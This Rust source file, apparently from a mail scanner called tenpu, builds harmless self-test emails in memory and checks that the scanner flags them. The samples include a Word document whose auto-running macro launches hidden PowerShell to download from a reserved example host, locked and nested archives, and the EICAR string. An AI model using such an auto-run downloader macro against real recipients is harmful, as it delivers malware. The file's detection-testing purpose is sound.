//! Harmless look-alikes, made in memory: each looks to a scanner like what is sent with ill intent, and does
//! nothing. No host in them can exist (RFC 2606), and the test file of EICAR stands nowhere as a whole.

use super::super::milter::subject::base64;
use super::archive::{Entry, archive};
use super::project::project;
use crate::verdict::Verdict;
use std::io;

/// A look-alike.
pub(super) struct Sample {
    /// Names its words: `selftest.<id>`.
    pub(super) id: &'static str,
    /// The whole mail.
    pub(super) mail: Vec<u8>,
    /// What must be said of it.
    pub(super) verdict: Verdict,
}

/// Runs when the document opens and asks a host that does not exist for something; the box says what it is.
const SOURCE: &str = "Sub AutoOpen()\r\n\
    MsgBox \"This is a harmless document of the self-test of tenpu.\"\r\n\
    Shell \"powershell -Command Invoke-WebRequest http://selftest.example/ -OutFile selftest.txt\", vbHide\r\n\
    End Sub\r\n";

/// The test file that the industry agreed on, in two halves; the second one is written from its end, so that the
/// file stands nowhere in the program either.
const EICAR: [&str; 2] = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAND", "*H+H$!ELIF-TSET-SURIVITNA-DRA"];

/// The whole of it.
fn eicar() -> String {
    let [first, second] = EICAR;
    first.chars().chain(second.chars().rev()).collect()
}

/// What follows a padded document: more than is kept of one file, so that it must be cut and not skipped.
const PADDING: usize = 80 << 20;

/// All of them. The test file of EICAR is known by a YARA rule, and left out by a program without these.
///
/// # Errors
/// None that a writer into memory has.
pub(super) fn all() -> io::Result<Vec<Sample>> {
    let document = document()?;
    let inner = archive(&[Entry::plain("selftest.docm", &document)])?;
    let locked = |password| archive(&[Entry { password, ..Entry::plain("selftest.docm", &document) }]);
    let padded = Entry { zeros: PADDING, ..Entry::plain("selftest.docm", &document) };
    let nested = archive(&[Entry::plain("inner.zip", &archive(&[Entry::plain("innermost.zip", &inner)])?)])?;
    let ja = "添付ファイルのパスワードは k7Rm2x です。\r\n";
    let malicious = |id, text, name, file: &[u8]| sample(id, text, Some((name, file)), Verdict::Malicious);
    let mut samples = vec![
        sample("plain", "Good morning.\r\n", None, Verdict::Clean),
        malicious("macro", "See the attachment.\r\n", "selftest.docm", &document),
        malicious("locked", ja, "selftest.zip", &locked(Some("k7Rm2x"))?),
        malicious("padded", "See the attachment.\r\n", "selftest.zip", &archive(&[padded])?),
        malicious("nested", "See the attachment.\r\n", "selftest.zip", &nested),
    ];
    let shut = locked(Some("%z0-is-nowhere-in-the-mail-0z%"))?;
    samples.push(sample("shut", "See the attachment.\r\n", Some(("shut.zip", &shut)), Verdict::Unverified));
    if cfg!(feature = "yara") {
        samples.push(malicious("eicar", "See the attachment.\r\n", "eicar.com", eicar().as_bytes()));
    }
    Ok(samples)
}

/// A document with a macro (ECMA-376).
fn document() -> io::Result<Vec<u8>> {
    const HEAD: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
    const PACKAGE: &str = "http://schemas.openxmlformats.org/package/2006/";
    const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument";
    const VBA: &str = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    let types = format!(
        "{HEAD}<Types xmlns=\"{PACKAGE}content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>\
         <Override PartName=\"/word/document.xml\" \
         ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"
    );
    let relation = |kind: &str, target: &str| {
        format!(
            "{HEAD}<Relationships xmlns=\"{PACKAGE}relationships\">\
             <Relationship Id=\"rId1\" Type=\"{kind}\" Target=\"{target}\"/></Relationships>"
        )
    };
    let text = format!(
        "{HEAD}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
         <w:body><w:p><w:r><w:t>tenpu selftest</w:t></w:r></w:p></w:body></w:document>"
    );
    archive(&[
        Entry::plain("[Content_Types].xml", types.as_bytes()),
        Entry::plain("_rels/.rels", relation(OFFICE, "word/document.xml").as_bytes()),
        Entry::plain("word/document.xml", text.as_bytes()),
        Entry::plain("word/_rels/document.xml.rels", relation(VBA, "vbaProject.bin").as_bytes()),
        Entry::plain("word/vbaProject.bin", &project(SOURCE)),
    ])
}

/// A mail with a text and perhaps a file.
fn sample(id: &'static str, text: &str, file: Option<(&str, &[u8])>, verdict: Verdict) -> Sample {
    let mut mail = format!(
        "From: tenpu selftest <selftest@tenpu.example>\r\nTo: postmaster@tenpu.example\r\n\
         Subject: tenpu selftest: {id}\r\nDate: Fri, 04 Mar 2022 09:12:07 +0900\r\n\
         Message-ID: <selftest.{id}@tenpu.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"part\"\r\n\r\n--part\r\n\
         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        lines(text.as_bytes())
    );
    if let Some((name, bytes)) = file {
        mail.push_str(&format!(
            "--part\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\
             Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{}",
            lines(bytes)
        ));
    }
    mail.push_str("--part--\r\n");
    Sample { id, mail: mail.into_bytes(), verdict }
}

/// Base64 in lines of a usual length.
fn lines(bytes: &[u8]) -> String {
    bytes.chunks(57).map(|chunk| base64(chunk) + "\r\n").collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{Rules, yara};
    use crate::keyring::Keyring;
    use crate::limits::Limits;
    use crate::scan::{Input, Scanner};

    #[test]
    fn each_sample_is_judged_as_it_must_be() {
        let (yara, problems) = yara::Rules::load(true, &[], None);
        assert!(problems.is_empty());
        let scanner = Scanner::new(Limits::default(), Rules { yara, builtin: true });
        for sample in all().unwrap() {
            let size = sample.mail.len() as u64;
            let bytes = sample.mail;
            let input = Input { path: sample.id.into(), bytes, size, is_message: true, ..Input::default() };
            let (report, _) = scanner.session().scan(input, &Keyring::new());
            let found: Vec<&str> = report.findings.iter().map(|finding| finding.id.as_str()).collect();
            assert_eq!(report.verdict, sample.verdict, "{}: {found:?} {:?}", sample.id, report.unread);
        }
    }

    #[test]
    fn the_test_file_is_the_one_agreed_on() {
        let file = eicar();
        assert_eq!(file.len(), 68);
        assert_eq!(crc32fast::hash(file.as_bytes()), 0x6851_cf3c);
    }
}
